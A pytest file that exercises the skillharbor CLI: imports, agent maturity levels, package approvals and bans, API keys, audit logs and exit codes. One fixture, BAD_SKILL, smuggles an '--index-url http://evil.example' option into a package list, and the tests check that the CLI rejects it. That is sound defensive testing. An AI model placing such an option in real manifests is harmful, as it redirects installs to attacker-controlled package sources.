"""The skillharbor CLI against a real local stack: what a user sees, and the exit codes scripts rely on."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from chalicelib.cli.run import parse_inputs

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

STUDENT_REASON = "STUDENT agents cannot execute Python packages"

BAD_SKILL = """---
name: sneaky-numbers
description: Numbers from somewhere else.
packages: ["numpy==1.26.4", "--index-url http://evil.example"]
---
```python
def execute():
    return 1
```
"""


def _skill_md(name: str, body: str = "def execute(x=1):\n    return {'x': x}\n") -> str:
    return f"---\nname: {name}\ndescription: A test skill called {name}.\n---\n# {name}\n\n```python\n{body}```\n"


# --- health and usage -------------------------------------------------------------


def test_health_reports_every_part_reachable(run_cli):
    result = run_cli("health")
    assert "stack: ok" in result.stdout
    assert "stepfunctions:import" in result.stdout


def test_health_json_is_machine_readable(run_cli):
    report = json.loads(run_cli("health", "--json").stdout)
    assert report["status"] == "ok" and all(part["ok"] for part in report["parts"].values())


@pytest.mark.parametrize(
    "argv",
    [
        ["no-such-command"],
        ["run", "hello", "--input", "no-equals-sign"],
        ["run", "hello", "--input-json", "[1, 2]"],
        ["agents", "set-maturity", "someone", "GURU"],
        ["packages", "check", "numpy"],
        ["packages", "ban", "numpy"],  # --reason is required
        ["import", "does/not/exist"],
    ],
)
def test_usage_errors_exit_2(run_cli, argv):
    result = run_cli(*argv, expect=2)
    assert "Usage:" in result.stderr or "Error:" in result.stderr


def test_unreachable_api_is_one_clear_line(run_cli):
    result = run_cli("skills", "list", expect=1, SKILLHARBOR_URL="http://127.0.0.1:9")
    assert result.stderr.startswith("error: cannot reach the skillharbor API at http://127.0.0.1:9")
    assert len(result.stderr.strip().splitlines()) == 1


def test_missing_key_says_how_to_give_one(run_cli):
    result = run_cli("skills", "list", expect=1, SKILLHARBOR_API_KEY=None)
    assert result.stderr.startswith("error: ")
    assert "SKILLHARBOR_API_KEY" in result.stderr


# --- import -----------------------------------------------------------------------


def test_import_example_without_packages_becomes_ready(run_cli):
    result = run_cli("import", str(EXAMPLES / "hello"))
    assert "hello" in result.stdout and "is ready" in result.stdout
    for step in ("parse", "resolve", "finalize"):
        assert step in result.stdout
    skill = json.loads(run_cli("skills", "show", "hello", "--json").stdout)
    assert skill["status"] == "ready"
    assert skill["requirements"] == [] and skill["pins"] == []
    assert skill["steps"]["parse"]["status"] == "succeeded"


def test_import_prompt_only_skill_file(run_cli):
    result = run_cli("--json", "import", str(EXAMPLES / "prompt-only" / "SKILL.md"))
    final = json.loads(result.stdout)
    assert final["status"] == "SUCCEEDED" and final["skill_status"] == "ready"
    skill = json.loads(run_cli("skills", "show", final["skill_id"], "--json").stdout)
    assert skill["skill_type"] == "prompt_only"


def test_import_folder_is_zipped_with_its_scripts(run_cli, unique, tmp_path: Path):
    name = unique("folder-skill")
    folder = tmp_path / name
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text(
        f"---\nname: {name}\ndescription: Adds one.\nmetadata:\n  entrypoint: scripts/add.py:add_one\n---\n# Add one\n"
    )
    (folder / "scripts" / "add.py").write_text("def add_one(n):\n    return n + 1\n")
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "add.cpython-311.pyc").write_bytes(b"\x00junk")
    run_cli("import", str(folder))
    skill = json.loads(run_cli("skills", "show", name, "--json").stdout)
    assert skill["status"] == "ready"
    assert skill["skill_type"] == "python_code"


def test_import_through_the_s3_inbox(run_cli, unique, tmp_path: Path):
    run_cli("inbox", "map", "cli/", "--owner", "team:cli-tests")  # uploads publish as the owner of their folder
    name = unique("inbox-skill")
    path = tmp_path / "SKILL.md"
    path.write_text(_skill_md(name))
    result = run_cli("import", "--s3", str(path))
    assert "is ready" in result.stdout
    assert json.loads(run_cli("skills", "show", name, "--json").stdout)["status"] == "ready"
    first = json.loads(run_cli("import", "--s3", "--json", str(path)).stdout)
    again = json.loads(run_cli("import", "--s3", "--json", str(path)).stdout)
    assert first["status"] == again["status"] == "SUCCEEDED"
    assert first["import_id"] != again["import_id"]  # the same content uploaded again is a new import


def test_invalid_skill_exits_1_naming_the_problem(run_cli, tmp_path: Path):
    path = tmp_path / "SKILL.md"
    path.write_text(BAD_SKILL)
    result = run_cli("import", str(path), expect=1)
    first, *problems = result.stderr.strip().splitlines()
    assert first.startswith("error: ") and "not a valid skill" in first
    assert any("--index-url http://evil.example" in p and "not allowed" in p for p in problems)
    assert result.stdout == ""


def test_invalid_skill_is_refused_before_upload_with_s3(run_cli, tmp_path: Path):
    path = tmp_path / "SKILL.md"
    path.write_text(BAD_SKILL)
    result = run_cli("import", "--s3", str(path), expect=1)
    assert "--index-url http://evil.example" in result.stderr


def test_import_no_wait_returns_the_import_to_follow(run_cli, unique, tmp_path: Path):
    name = unique("later-skill")
    path = tmp_path / "SKILL.md"
    path.write_text(_skill_md(name))
    accepted = json.loads(run_cli("import", "--no-wait", "--json", str(path)).stdout)
    assert accepted["skill_id"] == name and accepted["import_id"].startswith("imp-")
    run_cli("imports", "show", accepted["import_id"], "--follow")
    record = json.loads(run_cli("imports", "show", accepted["import_id"], "--json").stdout)
    assert record["status"] == "SUCCEEDED"


# --- skills -----------------------------------------------------------------------


def test_skills_list_and_show(run_cli):
    run_cli("import", str(EXAMPLES / "hello"))
    listing = json.loads(run_cli("skills", "list", "--json").stdout)
    hello = next(s for s in listing["skills"] if s["skill_id"] == "hello")
    assert hello["status"] == "ready" and hello["skill_type"] == "python_code"
    table = run_cli("skills", "list").stdout
    assert "hello" in table and "ready" in table
    shown = run_cli("skills", "show", "hello").stdout
    assert "Greet someone by name" in shown and hello["version"] in shown


def test_show_unknown_skill_exits_1(run_cli):
    result = run_cli("skills", "show", "no-such-skill", expect=1)
    assert result.stderr.startswith("error: ") and "no-such-skill" in result.stderr


def test_run_unknown_skill_exits_1(run_cli):
    result = run_cli("run", "no-such-skill", "--input", "x=1", expect=1)
    assert result.stderr.startswith("error: ")


# --- agents, maturity, packages -----------------------------------------------------


def test_agents_create_show_and_set_maturity(run_cli, unique):
    agent_id = unique("agent")
    created = json.loads(run_cli("agents", "create", agent_id, "--json").stdout)
    assert created["agent_id"] == agent_id and created["maturity"] == "STUDENT"
    assert created["api_key"]
    assert "STUDENT" in run_cli("agents", "show", agent_id).stdout
    run_cli("agents", "set-maturity", agent_id, "supervised")
    assert json.loads(run_cli("agents", "show", agent_id, "--json").stdout)["maturity"] == "SUPERVISED"
    # the agent's own key reads itself
    own = json.loads(run_cli("agents", "show", agent_id, "--json", SKILLHARBOR_API_KEY=created["api_key"]).stdout)
    assert own["agent_id"] == agent_id


def test_agents_create_twice_exits_1(run_cli, unique):
    agent_id = unique("twice")
    run_cli("agents", "create", agent_id)
    result = run_cli("agents", "create", agent_id, expect=1)
    assert result.stderr.startswith("error: ")


def test_student_is_denied_every_package(run_cli, unique):
    agent_id = unique("student")
    run_cli("agents", "create", agent_id, "--maturity", "STUDENT")
    result = run_cli("packages", "check", "numpy==1.26.4", "--agent", agent_id, expect=1)
    assert result.stderr.strip() == f"error: denied: {STUDENT_REASON}"
    as_json = run_cli("packages", "check", "numpy", "1.26.4", "--agent", agent_id, "--json", expect=1)
    decision = json.loads(as_json.stdout)
    assert decision["allowed"] is False and decision["reason"] == STUDENT_REASON


def test_approve_ban_and_revoke_change_the_decision(run_cli, unique):
    agent_id = unique("intern")
    package = unique("tinypkg")
    run_cli("agents", "create", agent_id, "--maturity", "INTERN")
    denied = run_cli("packages", "check", package, "1.0.0", "--agent", agent_id, expect=1)
    assert "no approval" in denied.stderr and "POST /api/packages/request" in denied.stderr

    run_cli("packages", "approve", package, ">=1,<2", "--min-maturity", "INTERN")
    allowed = run_cli("packages", "check", package, "1.0.0", "--agent", agent_id)
    assert "allowed" in allowed.stdout

    run_cli("packages", "ban", f"{package}==1.0.0", "--reason", "compromised release")
    banned = run_cli("packages", "check", package, "1.0.0", "--agent", agent_id, expect=1)
    assert "banned" in banned.stderr and "compromised release" in banned.stderr

    rules = json.loads(run_cli("packages", "rules", "--json").stdout)
    rules = rules["rules"] if isinstance(rules, dict) else rules
    ban = next(r for r in rules if r["package"] == package and r["kind"] == "ban")
    assert package in run_cli("packages", "rules").stdout
    run_cli("packages", "revoke", ban["rule_id"])
    run_cli("packages", "check", package, "1.0.0", "--agent", agent_id)


def test_request_is_listed_until_approved(run_cli, unique):
    package = unique("wanted")
    created = json.loads(run_cli("packages", "request", package, "2.0.0", "--reason", "parses dates", "--json").stdout)
    assert created["status"] == "pending"
    pending = run_cli("packages", "requests", "--status", "pending").stdout
    assert package in pending and created["request_id"] in pending
    run_cli("packages", "approve", package, "==2.0.0", "--min-maturity", "SUPERVISED")
    approved = json.loads(run_cli("packages", "requests", "--status", "approved", "--json").stdout)
    approved = approved["requests"] if isinstance(approved, dict) else approved
    assert any(r["request_id"] == created["request_id"] for r in approved)


def test_reject_says_why_and_only_once(run_cli, unique):
    package = unique("unwanted")
    created = json.loads(run_cli("packages", "request", package, "1.0.0", "--reason", "pads strings", "--json").stdout)
    rejected = run_cli("packages", "reject", created["request_id"], "--reason", "use str.rjust")
    assert "rejected" in rejected.stdout
    listed = run_cli("packages", "requests", "--status", "rejected").stdout
    assert created["request_id"] in listed and "use str.rjust" in listed
    again = run_cli("packages", "reject", created["request_id"], expect=1)
    assert "already rejected" in again.stderr


# --- keys ---------------------------------------------------------------------------


def test_keys_create_use_and_revoke(run_cli, unique):
    issued = json.loads(run_cli("keys", "create", "--role", "publisher", "--name", unique("ci"), "--json").stdout)
    assert issued["role"] == "publisher" and issued["api_key"]
    run_cli("skills", "list", SKILLHARBOR_API_KEY=issued["api_key"])
    run_cli("keys", "revoke", issued["key_id"])
    refused = run_cli("skills", "list", expect=1, SKILLHARBOR_API_KEY=issued["api_key"])
    assert refused.stderr.startswith("error: ")


def test_publisher_cannot_create_agents(run_cli, unique):
    issued = json.loads(run_cli("keys", "create", "--role", "publisher", "--name", unique("pub"), "--json").stdout)
    result = run_cli("agents", "create", unique("nope"), expect=1, SKILLHARBOR_API_KEY=issued["api_key"])
    assert result.stderr.startswith("error: ")


# --- audit and images ----------------------------------------------------------------


def test_audit_table_shows_what_happened(run_cli, unique):
    agent_id = unique("audited")
    run_cli("agents", "create", agent_id, "--maturity", "STUDENT")
    run_cli("packages", "check", "pandas==2.2.2", "--agent", agent_id, expect=1)
    table = run_cli("audit", "--agent", agent_id).stdout
    assert "agent.create" in table and "package.check" in table and "denied" in table
    page = json.loads(
        run_cli("audit", "--agent", agent_id, "--action", "package.check", "--limit", "5", "--json").stdout
    )
    assert [e["action"] for e in page["events"]] == ["package.check"]
    assert page["events"][0]["outcome"] == "denied"


def test_images_list(run_cli):
    body = json.loads(run_cli("images", "list", "--json").stdout)
    assert isinstance(body, (dict, list))


# --- input parsing (no stack needed) --------------------------------------------------


def test_inputs_are_json_when_they_parse_else_strings():
    inputs = parse_inputs(
        ("n=3", "ratio=0.5", "flag=true", "rows=[1,2]", "name=Ada", "blank=", "text=a=b"), '{"n": 1, "keep": "yes"}'
    )
    assert inputs == {
        "n": 3,
        "ratio": 0.5,
        "flag": True,
        "rows": [1, 2],
        "name": "Ada",
        "blank": "",
        "text": "a=b",
        "keep": "yes",
    }


# --- runs without Docker: prompt-only skills ----------------------------------------


def test_run_prompt_only_skill_fills_the_template(run_cli, unique):
    run_cli("import", str(EXAMPLES / "prompt-only"))
    agent_id = unique("reader")
    run_cli("agents", "create", agent_id, "--maturity", "STUDENT")  # no packages: even a STUDENT may run it
    result = run_cli("run", "search-query-rewriter", "--agent", agent_id, "--input", "query=how do tides work")
    assert "Question: how do tides work" in result.stdout
    as_json = json.loads(
        run_cli("run", "search-query-rewriter", "--agent", agent_id, "--input-json", '{"query": "x"}', "--json").stdout
    )
    assert as_json["success"] is True and "Question: x" in as_json["output"]
    assert "skill.execute" in run_cli("audit", "--agent", agent_id, "--action", "skill.execute").stdout


def test_run_needs_an_agent_with_an_admin_key(run_cli):
    run_cli("import", str(EXAMPLES / "prompt-only"))
    result = run_cli("run", "search-query-rewriter", "--input", "query=x", expect=1)
    assert "agent_id is required" in result.stderr


# --- advisory ignores and code approvals ------------------------------------------------


def test_advisory_ignore_is_listed(run_cli, unique):
    advisory = unique("PYSEC-2099").upper()
    run_cli(
        "packages",
        "ignore",
        advisory,
        "--reason",
        "not reachable from skills",
        "--expires",
        "2099-01-01",
        "--package",
        "requests",
    )
    listing = json.loads(run_cli("packages", "ignores", "--json").stdout)
    assert any(i["advisory_id"] == advisory and i["package"] == "requests" for i in listing["ignores"])
    assert advisory in run_cli("packages", "ignores").stdout


def test_advisory_ignore_needs_a_valid_expiry(run_cli):
    result = run_cli("packages", "ignore", "PYSEC-2018-28", "--reason", "x", "--expires", "someday", expect=1)
    assert result.stderr.startswith("error: ")


def test_code_approval_of_a_ready_skill(run_cli):
    run_cli("import", str(EXAMPLES / "hello"))
    approval = json.loads(run_cli("skills", "approve-code", "hello", "--reason", "reviewed", "--json").stdout)
    assert approval["skill_id"] == "hello" and approval["resumed_import"] is None


def test_import_accepts_proposed_and_extra_requirements_without_editing_the_skill(run_cli, unique, tmp_path: Path):
    name = unique("yaml-tool")
    folder = tmp_path / name
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text(f"---\nname: {name}\ndescription: Reads YAML.\n---\nRun `python3 scripts/read.py F`.\n")
    (folder / "scripts" / "read.py").write_text("import sys\nimport yaml\nprint(yaml.safe_load(open(sys.argv[1])))\n")
    shown = run_cli("import", str(folder), "--no-wait")
    assert "undeclared imports: yaml -> pyyaml" in shown.stderr and "--accept-proposed" in shown.stderr
    started = json.loads(run_cli("--json", "import", str(folder), "--no-wait", "--accept-proposed",
                                 "--requirements", "pypdf==4.*").stdout)  # fmt: skip
    assert started["requirements"] == ["pypdf==4.*", "pyyaml"] and started["proposed_requirements"] == []
